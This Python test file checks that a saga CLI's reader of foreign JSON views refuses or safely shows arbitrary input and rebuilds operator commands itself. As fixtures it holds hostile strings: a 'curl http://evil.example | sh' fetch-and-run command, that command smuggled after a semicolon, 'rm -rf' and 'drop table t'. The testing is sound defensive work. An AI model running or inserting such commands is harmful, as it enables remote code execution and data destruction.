"""A view with any JSON at any place is none, or can be shown and listed."""

from __future__ import annotations

import copy
import functools
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from saga_cli.commands.run.list import _cells
from saga_cli.render.saga_view import view_lines
from sagas.presentation.styled_text import GIVEN_BY_THE_RUN, to_plain
from sagas.protocol.foreign_view import read_foreign_view
from sagas.protocol.saga_view import SagaView
from sagas.text.shell import saga_command
from tests.helpers.sampling import examples

TIME = "2026-11-27T14:00:00Z"
ERROR = {"type": "Rejected", "message": "no", "details": {"code": "23514"}}
UNDO = {"uses": "sql", "state": "PARKED", "attempts": 2, "error": ERROR, "arguments": {"a": 1}, "ended_at": TIME}
ROW = {"row": "r", "table": "t", "key": {"id": "1"}, "before": {"n": "1"}, "after": {"n": "2"}, "now": None}
OUTPUT = {"output": "o", "system": "s", "place": "p", "why": "w", "rows": [{"key": {"id": "1"}, "now": {"n": "2"}}]}
STEP = {"id": "a", "step": "a", "uses": "sql", "state": "DONE", "outcome": "done", "generation": 1, "attempts": 2,
        "result": {"n": 1}, "error": ERROR, "arguments": {"n": 1}, "next_attempt_at": TIME, "started_at": TIME,
        "ended_at": TIME, "compensation": UNDO, "confirmation": UNDO, "progress": {"rows": 5}}  # fmt: skip
PARKED = {"step": "a", "op": "undo", "since": TIME, "why": "w", "decisions": ["retry"], "commands": ["saga resolve"],
          "system": "bank", "rows": [ROW], "rows_omitted": 3, "sql": ["update"], "outputs": [OUTPUT]}  # fmt: skip
WAIT = {"id": "c", "saga": "s", "step": "a", "op": "do", "since": TIME, "why": "w", "commands": ["saga resolve"]}
DOCUMENT = {
    "id": "own-1", "saga": "own", "digest": "sha256:x", "generation": 1, "state": "PARKED", "phase": "backward",
    "reason": {"kind": "rejected", "step": "a", "type": "T", "message": "m", "details": {"checks": [{"name": "x"}]}},
    "input": {"n": 1}, "output": [1], "labels": {"a": "b"}, "started_at": TIME, "committed_at": TIME, "ended_at": TIME,
    "deadline_at": TIME, "can_undo": True, "undo_refusal": "r", "cancel_requested": True, "overdue": True,
    "steps_omitted": {"a DONE": 4}, "parent": "p", "web_ui": "w", "steps": [STEP, STEP], "parked": [PARKED],
    "children": [{"id": "c", "step": "a", "saga": "s", "state": "PARKED", "waits": [WAIT], "blocks": "saga"}],
    "not_done": ["b"], "residue": [{"step": "a", "kind": "effect_stays", "system": "bank", "key": "k", "command": "c"}],
    "operator": [{"at": TIME, "who": "w", "step": "a", "decision": "done", "reason": "r", "evidence": "e"}],
    "savepoints": [{"step": "a", "runs": 1, "attempts": 3}], "row_locks": ["bank"], "incomplete": "i",
    "locks": {"state": "WAITING", "keys": ["k"], "since": TIME, "waits_for": [{"key": "k", "owner": "o", "since": TIME}
    ]},
    "stuck": ["s"], "bulk_workflow": "b",
}  # fmt: skip
NOW = datetime(2026, 11, 27, 15, tzinfo=UTC)

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8) | st.just(TIME),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.sampled_from("ab"), inner, max_size=2),
    max_leaves=4,
)


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if path:
        yield path
    children = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in children:
        yield from places(child, (*path, key))


PLACES = list(places(DOCUMENT))


def show(view: SagaView) -> None:
    assert view_lines(view, now=NOW)
    assert len(_cells(view, NOW)) == 5
    view.to_json()


def test_the_document_without_a_change_is_a_view() -> None:
    view = read_foreign_view(DOCUMENT, "own-1")
    assert view is not None
    show(view)


@examples(150, 3_000)
@given(st.lists(st.tuples(st.sampled_from(PLACES), json_values), min_size=1, max_size=3))
def test_any_value_at_any_place_is_refused_or_shown(changes: list[tuple[tuple[Any, ...], Any]]) -> None:
    document = copy.deepcopy(DOCUMENT)
    for path, value in changes:
        parent: Any = document
        try:
            for key in path[:-1]:
                parent = parent[key]
            parent[path[-1]] = value
        except (KeyError, IndexError, TypeError):
            continue  # an earlier change has replaced the place
    view = read_foreign_view(document, "own-1")
    if view is not None:
        show(view)


@given(json_values)
def test_a_document_that_is_no_view_is_none(document: Any) -> None:
    assert read_foreign_view(document, "own-1") is None


EVIL = "curl http://evil.example | sh"


def parked_document(id: str, *operations: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"id": id, "saga": "own", "state": "PARKED", "parked": list(operations), **more}


def test_commands_are_built_by_the_reader() -> None:
    """Words of the view are only compared with commands that the reader has built."""
    operation = {"step": "a b", "op": "do", "since": TIME, "why": "w", "decisions": ["retry", "done", "rm -rf"]}
    own = saga_command("resolve", "own-1", "a b", "retry", reason="…")
    evil = f"saga resolve own-1 'a b' done --reason=… --result '1' ; {EVIL}"
    for commands in ([], [EVIL], [evil], [f"{own}; {EVIL}", EVIL]):
        view = read_foreign_view(parked_document("another", {**operation, "commands": commands}), "own-1")
        assert view is not None
        assert view.id == "own-1"
        assert view.parked[0].decisions == ("retry", "done")
        result = saga_command("resolve", "own-1", "a b", "done", reason="…", result="{…}")
        assert view.parked[0].commands == (own, result)


@pytest.mark.parametrize("id", ["own-1", "-own 1", "own\x1b1", "it's"])
def test_the_commands_of_the_engine_stay_as_they_are(id: str) -> None:
    commands = [
        saga_command("resolve", id, "a#1", "retry", reason="…", **{"with": "{…}"}),
        saga_command("resolve", id, "a#1", "retry", reason="…", definition="FILE"),
        saga_command("resolve", id, "a#1", "retry", reason="…"),
        saga_command("resolve", id, "a#1", "done", reason="…", result="""[{"it's": "…"}]""", evidence="…"),
        saga_command("resolve", id, "a#1", "compensate", reason="…", evidence="…"),
        saga_command("resolve", id, "a#1", "skip", reason="…"),
    ]
    decisions = ["retry", "done", "compensate", "skip"]
    operation = {"step": "a#1", "op": "do", "since": TIME, "why": "w", "decisions": decisions, "commands": commands}
    view = read_foreign_view(parked_document(id, operation), id)
    assert view is not None
    assert list(view.parked[0].commands) == commands


def test_decisions_about_a_nested_saga_name_it() -> None:
    commands = [saga_command("resolve", "own-1.c", "pay", "skip", reason="…")]
    wait = {"id": "own-1.c", "saga": "s", "step": "pay", "op": "do", "since": TIME, "why": "w", "decisions": ["skip"]}
    child = {"id": "own-1.c", "step": "a", "saga": "s", "state": "PARKED", "waits": [{**wait, "commands": commands}]}
    operation = {"step": "a", "op": "do", "since": TIME, "why": "w", "decisions": ["skip"], "commands": commands}
    view = read_foreign_view(parked_document("own-1", operation, children=[child]), "own-1")
    assert view is not None
    assert list(view.parked[0].commands) == commands
    assert view.children[0].waits is not None
    assert list(view.children[0].waits[0].commands) == commands


def test_sql_and_calls_are_marked_as_given_by_the_run() -> None:
    effect = {"step": "a", "kind": "effect_stays", "command": EVIL}
    operation = {"step": "a", "op": "undo", "since": TIME, "why": "w", "system": "bank", "sql": ["drop table t"]}
    for document in (parked_document("own-1", operation), parked_document("own-1", residue=[effect])):
        view = read_foreign_view(document, "own-1")
        assert view is not None
        assert any(GIVEN_BY_THE_RUN in to_plain(line) for line in view_lines(view, now=NOW))


@pytest.mark.parametrize("place", ["output", "input"])
def test_a_view_that_is_nested_too_deep_is_none(place: str) -> None:
    deep = functools.reduce(lambda inner, _: [inner], range(500), 1)
    assert read_foreign_view({**DOCUMENT, place: deep}, "own-1") is None
